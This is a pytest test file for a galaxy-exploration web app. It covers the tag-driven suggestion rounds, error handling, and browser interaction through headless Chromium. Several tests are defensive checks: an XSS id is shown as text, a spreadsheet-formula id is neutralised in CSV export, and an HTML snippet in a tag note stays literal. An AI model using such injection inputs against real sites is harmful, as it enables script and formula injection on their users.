    assert second["rounds"][1]["basis"] == "rank" and second["positives"] == 2
    assert second["rounds"][1]["basis_text"].startswith(
        "ranked by raregal rank from 2 positive and 10 negative"
    )
    server = Served(run, None)  # a restart: the session resumes
    try:
        view = get_json(server, "/api/suggest")
        assert [r["summary"] for r in view["rounds"]] == [
            "round 1: 0 of 10 tagged interesting, 1 not real or artifact",
            "round 2: 0 of 10 tagged interesting",
        ]
        assert shown(view, 2) == shown(second, 2)
        for target in shown(view, 2)[:4]:
            tag(server, target, "interesting")
        third = suggest(server)
        status, answer = raw_request(server, "GET", "/api/rounds.csv")
    finally:
        server.stop()
    assert third["rounds"][1]["summary"] == "round 2: 4 of 10 tagged interesting"
    assert third["positives"] == 6 and len(shown(third, 3)) == 10
    assert not set(shown(third, 3)) & {*shown(view, 1), *shown(view, 2), "g010", "g011"}
    rounds = pd.read_csv(io.BytesIO(answer), dtype={"id_str": str}, keep_default_na=False)
    assert status == 200 and len(rounds) == 30
    assert rounds["round"].tolist() == [1] * 10 + [2] * 10 + [3] * 10
    assert rounds.loc[0, "id_str"] == "'" + FORMULA_ID  # the rarest: a spreadsheet's formula
    assert rounds.set_index("id_str").loc["g055", "tags"] == "not real"
    assert (rounds["tags"] == "interesting").sum() == 4
    assert set(rounds.loc[rounds["round"] == 2, "basis"]) == {"rank"}


def test_suggest_next_without_the_representation_table_says_so(tmp_path):
    """The representation table moved away: the view says so in one line, the rarest
    still make a first round, a round from tags is refused (409, that line), and the
    rest of the explorer works."""
    run, _ = ranked_run(tmp_path)
    (tmp_path / "representations.parquet").rename(tmp_path / "moved.parquet")
    server = Served(run, None)
    try:
        view = get_json(server, "/api/suggest")
        assert view["problem"].startswith("suggestions from tags are off: ")
        assert "is not there" in view["problem"] and "\n" not in view["problem"]
        assert shown(suggest(server), 1) == [f"g0{i}" for i in range(59, 49, -1)]
        tag(server, "g010", "interesting")
        refused = suggest(server, expect=409)
        assert "representations.parquet" in refused["error"] and "is not there" in refused["error"]
        assert get_json(server, "/api/galaxy/3")["id"] == "g003"
        assert raw_request(server, "POST", "/api/select", b'{"class": "A"}')[0] == 200
    finally:
        server.stop()


def test_suggest_routes_say_when_the_tag_file_cannot_be_used(tmp_path):
    """A tag file sqlite cannot open or extend (an older one in a read-only folder): the
    suggest routes answer 503 saying which file, not 500."""
    import sqlite3

    from raregal.explore.app import create_app
    from raregal.explore.data import RunData
    from raregal.explore.tags import TagStore

    from .run_folders import small_run

    class Unwritable(TagStore):
        def _connect(self):
            raise sqlite3.OperationalError("attempt to write a readonly database")

    small_run(tmp_path / "run")
    (tmp_path / "run" / "explore-tags.sqlite").touch()
    data = RunData(tmp_path / "run")
    server = Served(None, None, app=create_app(data, Unwritable(tmp_path / "run")))
    try:
        answers = [
            raw_request(server, "GET", "/api/suggest"),
            raw_request(server, "POST", "/api/suggest", b"{}"),
            raw_request(server, "GET", "/api/rounds.csv"),
        ]
    finally:
        server.stop()
    for status, answer in answers:
        assert status == 503 and b"explore-tags.sqlite: attempt to write a readonly" in answer


def test_suggest_next_without_positives_nor_rarity_asks_for_tags(small_served):
    """A run without the rarity column: no round until a galaxy is tagged interesting;
    a round size outside 1-100 is a client error."""
    view = get_json(small_served, "/api/suggest")
    assert view["start"].startswith("Tag some galaxies interesting first")
    assert "tagged interesting" in suggest(small_served, expect=409)["error"]
    for k in ('"10"', "0", "101", "-1", "1.5", "true", "1e400", "null", "[1]"):
        status, answer = raw_request(small_served, "POST", "/api/suggest", f'{{"k": {k}}}'.encode())
        assert status == 400 and b"must be an integer in [1, 100]" in answer, (k, answer)
    assert raw_request(small_served, "POST", "/api/suggest", b'{"k": 5}')[0] == 409


# --- in the browser ----------------------------------------------------------------------


def _browser():
    if not Path(CHROMIUM).is_file():
        if os.environ.get("CI"):
            pytest.fail("CI must install Debian's chromium for the explore test")
        pytest.skip("no chromium here (apt-get install chromium)")
    return pytest.importorskip("playwright.sync_api")


def _lasso_box(page):
    """(x0, y0, x1, y1), canvas pixels, of the lasso drawn on the map: the pixels that
    change when only the lasso's colour does."""
    from PIL import Image

    shots = []
    for colour in ("#ff00ff", "#00ffff"):
        page.evaluate(f"window.explore.state.scatter.set({{lassoColor: '{colour}'}})")
        page.wait_for_timeout(300)
        shots.append(
            np.asarray(
                Image.open(io.BytesIO(page.locator("#map").screenshot())).convert("RGB")
            ).astype(int)
        )
    ys, xs = np.nonzero(np.abs(shots[0] - shots[1]).sum(axis=-1) > 60)
    assert len(xs) > 50, "no lasso on the map"
    page.evaluate("window.explore.state.scatter.set({lassoColor: '#2a5db0'})")
    return xs.min(), ys.min(), xs.max(), ys.max()


def _draw_lasso(page, corners):
    """Press at the first corner (canvas pixels), drag through the others in steps,
    release, and wait for the page's lasso selection."""
    canvas = page.locator("#map").bounding_box()
    page.mouse.move(canvas["x"] + corners[0][0], canvas["y"] + corners[0][1])
    page.mouse.down()
    for a, b in zip(corners[:-1], corners[1:]):
        for t in np.linspace(0, 1, 8)[1:]:
            x, y = np.asarray(a) + t * (np.asarray(b) - np.asarray(a))
            page.mouse.move(canvas["x"] + x, canvas["y"] + y)
    page.mouse.up()
    page.wait_for_function(
        "document.querySelector('#selection-label').textContent.includes('drawn on the map')"
    )


def _open(browser, url, problems):
    page = browser.new_page(viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page.on(
        "console",
        lambda m: problems.append(f"console {m.type}: {m.text}") if m.type == "error" else None,
    )
    page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    page.goto(url, wait_until="load")
    page.wait_for_function("document.body.dataset.ready", timeout=60_000)
    assert page.evaluate("document.body.dataset.ready") == "true"
    return page


@pytest.mark.slow
def test_explore_in_headless_chromium(run_folder, tmp_path):
    sync_api = _browser()
    from astropy.table import Table

    run, images = run_folder
    classes = pd.read_parquet(run / "classes.parquet")
    summary = pd.read_csv(run / "classes.csv")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    problems = []
    server = Served(run, images)
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = _open(browser, server.url + "/", problems)
            assert page.evaluate("window.exploreTimings.points") == len(classes)
            page.screenshot(path=str(ARTIFACTS / "explore-map.png"))

            # a real click on a galaxy drawn on the canvas opens its card
            canvas = page.locator("#map").bounding_box()
            target = int(np.flatnonzero(classes["class"] >= 0)[0])
            sx, sy = page.evaluate(f"window.explore.screenPosition({target})")
            page.mouse.move(canvas["x"] + sx, canvas["y"] + sy)  # hover, as a hand does
            page.wait_for_timeout(200)
            page.mouse.click(canvas["x"] + sx, canvas["y"] + sy)
            try:
                page.wait_for_selector("#card:not([hidden])", timeout=15_000)
            except sync_api.TimeoutError as exc:
                raise AssertionError(f"no card after clicking a galaxy; {problems}") from exc
            clicked = int(page.locator("#card").get_attribute("data-row"))
            cx, cy = page.evaluate(f"window.explore.screenPosition({clicked})")
            assert abs(cx - sx) < 8 and abs(cy - sy) < 8  # the galaxy under the pointer

            # a lasso (box) drawn with the mouse selects the galaxies inside it
            page.click("#mode-lasso")
            screen = np.array(
                page.evaluate(
                    f"Array.from({{length: {len(classes)}}}, (_, i) => "
                    f"window.explore.screenPosition(i))"
                )
            )
            centre = screen[classes["class"].to_numpy() == classes.loc[target, "class"]].mean(0)
            low, high = centre - 40, centre + 40
            _draw_lasso(page, [low, (high[0], low[1]), high, (low[0], high[1]), low])
            inside = int(np.all((screen > low) & (screen < high), axis=1).sum())
            count = int(page.locator("#selection-count").inner_text().split()[0])
            assert inside > 10 and abs(count - inside) <= 2, (count, inside)
            page.click("#mode-pan")

            # a stable lasso: the outline stays after the selection and is drawn where
            # the galaxies are, so it grows with them when the map is zoomed
            drawn = _lasso_box(page)
            assert drawn[2] - drawn[0] == pytest.approx(80, abs=12)
            pair = [int(r) for r in np.flatnonzero(np.all((screen > low) & (screen < high), 1))]
            far = max(pair, key=lambda r: np.linalg.norm(screen[r] - screen[pair[0]]))
            page.mouse.move(canvas["x"] + centre[0], canvas["y"] + centre[1])
            page.mouse.wheel(0, -400)
            page.wait_for_timeout(1000)
            moved = np.array(
                [page.evaluate(f"window.explore.screenPosition({r})") for r in (pair[0], far)]
            )
            zoom = np.linalg.norm(moved[1] - moved[0]) / np.linalg.norm(
                screen[far] - screen[pair[0]]
            )
            zoomed = _lasso_box(page)
            assert zoom > 1.3  # the wheel zoomed in
            assert (zoomed[2] - zoomed[0]) / (drawn[2] - drawn[0]) == pytest.approx(zoom, rel=0.15)
            page.screenshot(path=str(ARTIFACTS / "explore-lasso-zoomed.png"))
            page.click("#reset-view")

            # the URL hook: a galaxy by id, its card and its neighbours' gallery
            page.evaluate("location.hash = 'galaxy=100008'")
            page.wait_for_function("document.querySelector('#card-id').textContent == '100008'")
            page.wait_for_function("document.querySelectorAll('#neighbours figure').length == 12")
            page.wait_for_function("document.querySelector('#card-thumb').naturalWidth == 128")
            page.wait_for_function(
                "Array.from(document.querySelectorAll('#neighbours img')).every(i => i.complete)"
            )
            assert page.locator("#neighbours img").count() >= 1
            assert page.evaluate(
                "Array.from(document.querySelectorAll('#neighbours img'))"
                ".every(i => i.naturalWidth == 128)"
            )
            galaxy = classes.set_index("id_str").loc["100008"]
            layer = str(viewer_layer(galaxy["ra"], galaxy["dec"]))  # tested in test_inputs
            assert f"layer={layer}&" in page.locator("#card-facts a[target=_blank]").get_attribute(
                "href"
            )
            page.screenshot(path=str(ARTIFACTS / "explore-card.png"))

            # an id that is HTML stays text: no element made, no script run
            page.evaluate(f"window.explore.showGalaxyById({XSS!r})")
            page.wait_for_function(f"document.querySelector('#card-id').textContent == {XSS!r}")
            assert page.locator("img[src='x']").count() == 0
            assert page.locator("#card-id img").count() == 0

            # classes: sort by size, open the largest, export it three ways
            page.click("#tabs button[data-tab=classes]")
            page.click("#class-table th[data-key=size]")
            letters = page.locator("#class-table tr[data-letter]")
            sizes = [
                int(letters.nth(i).locator("td").nth(1).inner_text())
                for i in range(letters.count())
            ]
            assert sizes == sorted(summary["size"], reverse=True)
            letters.first.click()
            page.wait_for_function(
                "document.querySelector('#selection-label').textContent.startsWith('class')"
            )
            letter = page.locator("#selection-label").inner_text().split()[-1]
            assert page.locator("#selection-count").inner_text() == f"{max(sizes)} galaxies"
            page.screenshot(path=str(ARTIFACTS / "explore-selection.png"))
            exported = {}
            for kind in ("csv", "fits", "vot"):
                with page.expect_download() as download:
                    page.click(f"#export-{kind}")
                exported[kind] = tmp_path / download.value.suggested_filename
                download.value.save_as(exported[kind])
            members = classes.loc[
                classes["class"] == summary.loc[summary["size"].idxmax(), "class"], "id_str"
            ]
            table = pd.read_csv(exported["csv"], dtype={"id_str": str})
            assert sorted(table["id_str"]) == sorted(members)
            assert set(table["class_letter"]) == {letter}
            for kind in ("fits", "vot"):
                read = Table.read(exported[kind], format="fits" if kind == "fits" else "votable")
                assert len(read) == len(members) and str(read["ra"].unit) == "deg"
                np.testing.assert_allclose(np.sort(read["dec"]), np.sort(table["dec"]))

            # a query selects what pandas selects
            page.fill("#query", "probability > 0.9 and map_x < 100")
            page.click("#query-form button")
            page.wait_for_function(
                "document.querySelector('#selection-label').textContent.startsWith('query')"
            )
            expected = int(classes.query("probability > 0.9 and map_x < 100").shape[0])
            assert page.locator("#selection-count").inner_text() == f"{expected} galaxies"

            # tag the class, then find the tag after a restart of the server
            page.evaluate(f"window.explore.selectBy({{class: {letter!r}}})")
            page.wait_for_selector("#class-tagger select")
            page.select_option("#class-tagger select", "merge")
            page.fill("#class-tagger input", f"with {letter} <b>bold</b>")
            page.click("#class-tagger button")
            page.wait_for_selector("#class-tagger .tag")
            server.stop()
            server = Served(run, images)
            page = _open(browser, server.url + "/", problems)
            page.click("#tabs button[data-tab=tags]")
            page.wait_for_selector("#tag-table td")
            cells = page.locator("#tag-table tr").nth(1).locator("td").all_inner_texts()
            assert cells[:4] == ["class", letter, "merge", f"with {letter} <b>bold</b>"]
            with page.expect_download() as download:
                page.click("#tags-csv")
            tags = pd.read_csv(download.value.path())
            assert tags[["kind", "target", "tag"]].values.tolist() == [["class", letter, "merge"]]
        finally:
            browser.close()
            server.stop()
    assert problems == []


@pytest.mark.slow
def test_closed_lasso_failed_tag_and_classless_map_in_chromium(tmp_path):
    """In the page: a lasso closed where it began keeps its selection (it was replaced
    by the galaxy under the pointer); a tag that cannot be saved says so; a run without
    classes draws its galaxies dark enough to see."""
    sync_api = _browser()
    from PIL import Image

    from .run_folders import small_run

    run, classless = tmp_path / "run", tmp_path / "classless"
    small_run(run)
    small_run(classless, classes=np.full(60, -1))
    problems = []
    server = Served(run, None)
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = _open(browser, server.url + "/", problems)
            canvas = page.locator("#map").bounding_box()
            screen = np.array(
                page.evaluate(
                    "Array.from({length: 60}, (_, i) => window.explore.screenPosition(i))"
                )
            )
            # a rectangle round class 1 (rows 10-19) that starts and ends on a galaxy
            start = 10 + int(np.argmin(screen[10:20, 0]))
            low, high = screen[10:20].min(0) - 15, screen[10:20].max(0) + 15
            sx, sy = screen[start]
            path = [(sx, sy), (sx, low[1]), (high[0], low[1]), high, (sx, high[1]), (sx, sy)]
            page.click("#mode-lasso")
            page.mouse.move(canvas["x"] + sx, canvas["y"] + sy)  # hovering that galaxy
            page.wait_for_timeout(300)
            _draw_lasso(page, path)
            page.wait_for_timeout(1000)  # what the library's click did has happened
            inside = np.all((screen > [sx, low[1]]) & (screen < high), axis=1)
            count = int(page.locator("#selection-count").inner_text().split()[0])
            assert count >= 10 and abs(count - inside.sum()) <= 1, (count, inside.sum())
            assert page.locator("#card").is_hidden()  # no card for the galaxy at the start
            assert (
                page.evaluate("window.explore.state.scatter.get('selectedPoints').length") == count
            )
            page.click("#mode-pan")

            # a tag that cannot be saved (the run folder moved away) says so in the page
            page.evaluate("window.explore.selectBy({class: 'B'})")
            page.wait_for_selector("#class-tagger select")
            page.fill("#class-tagger input", "kept in the box")
            run.rename(tmp_path / "moved")
            try:
                page.click("#class-tagger button")
                page.wait_for_function(
                    "document.querySelector('#class-tagger .error')"
                    ".textContent.startsWith('Tag not saved')"
                )
            finally:
                (tmp_path / "moved").rename(run)
            assert page.input_value("#class-tagger input") == "kept in the box"
            # saved once the folder is back; removed elsewhere (another tab), then here
            page.click("#class-tagger button")
            page.wait_for_selector("#class-tagger .tag")
            page.click("#tabs button[data-tab=tags]")
            page.wait_for_selector("#tag-table button")
            assert raw_request(server, "DELETE", "/api/tags/1")[0] == 200
            page.click("#tag-table button")
            page.wait_for_function(
                "document.querySelector('#tags-error').textContent"
                " == 'Tag not removed: no such tag'"
            )
            # the refused requests themselves, logged by the browser
            problems[:] = [p for p in problems if " 503 " not in p and " 404 " not in p]
            server.stop()

            # no classes: every galaxy in the "no class" colour, which must show on white
            server = Served(classless, None)
            page = _open(browser, server.url + "/", problems)
            screen = np.array(
                page.evaluate(
                    "Array.from({length: 60}, (_, i) => window.explore.screenPosition(i))"
                )
            )
            pixels = np.asarray(
                Image.open(io.BytesIO(page.locator("#map").screenshot())).convert("L")
            ).astype(int)
            shown = [
                pixels[int(round(y)), int(round(x))]
                for x, y in screen
                if 0 <= x < pixels.shape[1] and 0 <= y < pixels.shape[0]
            ]
            assert len(shown) == 60 and np.median(shown) < 150, np.median(shown)
        finally:
            browser.close()
            server.stop()
    assert problems == []


@pytest.mark.slow
def test_suggest_tag_and_resume_in_chromium(run_folder, tmp_path):
    """The loop in the page: the rarest galaxies first, two galaxies of a planted group
    tagged interesting on their card and one suggestion not real in the list, a round
    ranked from them (the planted group), more tagged in the list; after a restart the
    rounds and their yields are there and the next round shows none of what was shown
    or tagged."""
    sync_api = _browser()
    run = tmp_path / "run"
    shutil.copytree(run_folder[0], run)  # its tags and rounds are this test's own
    images = run_folder[1]
    classes = pd.read_parquet(run / "classes.parquet")
    planted = (
        pd.read_parquet(run_folder[0].parent / "representations.parquet")
        .set_index("id_str")
        .loc[classes["id_str"], "planted"]
        .to_numpy()
    )
    rarest = classes.sort_values(["rarity", "id_str"], ascending=[False, True])["id_str"]
    problems = []
    server = Served(run, images)

    def round_ids(page, number):
        figures = page.locator(f"#suggest-rounds section[data-round='{number}'] figure")
        return [figures.nth(i).get_attribute("data-id") for i in range(figures.count())]

    def suggest_next(page, number):
        page.click("#suggest-next")
        page.wait_for_function(
            f'document.querySelectorAll("#suggest-rounds '
            f"section[data-round='{number}'] figure\").length == 10"
        )
        return round_ids(page, number)

    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = _open(browser, server.url + "/", problems)
            page.click("#tabs button[data-tab=suggest]")
            page.wait_for_function(
                "document.querySelector('#suggest-start').textContent.includes('rarest')"
            )
            first = suggest_next(page, 1)
            assert first == rarest.head(10).tolist()
            group = int(pd.Series(planted[planted >= 0]).value_counts().index[0])
            members = [g for g, p in zip(classes["id_str"], planted) if p == group]
            liked = [g for g in members if g not in first][:2]
            for galaxy in liked:  # on the galaxy card
                page.evaluate(f"window.explore.showGalaxyById({galaxy!r})")
                page.wait_for_function(
                    f"document.querySelector('#galaxy-tagger').dataset.target == {galaxy!r}"
                )
                page.select_option("#galaxy-tagger select", "interesting")
                page.click("#galaxy-tagger button")
                page.wait_for_selector("#galaxy-tagger .tag")
            page.click("#tabs button[data-tab=suggest]")
            page.wait_for_selector("#suggest-rounds figure")
            # in the list: the first of round 1 is not real
            page.click(f"#suggest-rounds figure[data-id={first[0]!r}] button[data-tag='not real']")
            page.wait_for_function(
                "document.querySelector('#suggest-rounds h3').textContent"
                ".endsWith('1 not real or artifact')"
            )
            second = suggest_next(page, 2)
            assert not set(second) & {*first, *liked}
            assert sum(g in members for g in second) >= 8, second  # the group's others
            for galaxy in second[:3]:  # tag again, in the list
                page.click(
                    f"#suggest-rounds figure[data-id={galaxy!r}] button[data-tag='interesting']"
                )
                page.wait_for_function(
                    f'document.querySelector("#suggest-rounds '
                    f"figure[data-id='{galaxy}'] .said\").textContent"
                    f" == 'interesting'"
                )
            page.screenshot(path=str(ARTIFACTS / "explore-suggest.png"))
            server.stop()

            server = Served(run, images)  # a restart: resume
            page = _open(browser, server.url + "/", problems)
            page.click("#tabs button[data-tab=suggest]")
            page.wait_for_selector("#suggest-rounds h3")
            assert page.locator("#suggest-rounds h3").all_inner_texts() == [
                "round 2: 3 of 10 tagged interesting",
                "round 1: 0 of 10 tagged interesting, 1 not real or artifact",
            ]
            assert round_ids(page, 1) == first and round_ids(page, 2) == second
            third = suggest_next(page, 3)
            assert not set(third) & {*first, *second, *liked}
            assert (
                page.locator("#suggest-rounds h3").first.inner_text()
                == "round 3: 0 of 10 tagged interesting"
            )
            with page.expect_download() as download:
                page.click("#rounds-csv")
            rounds = pd.read_csv(download.value.path(), dtype={"id_str": str})
            assert rounds["id_str"].tolist() == first + second + third
            assert rounds["basis"].tolist() == ["rarity"] * 10 + ["rank"] * 20
        finally:
            browser.close()
            server.stop()
    assert problems == []
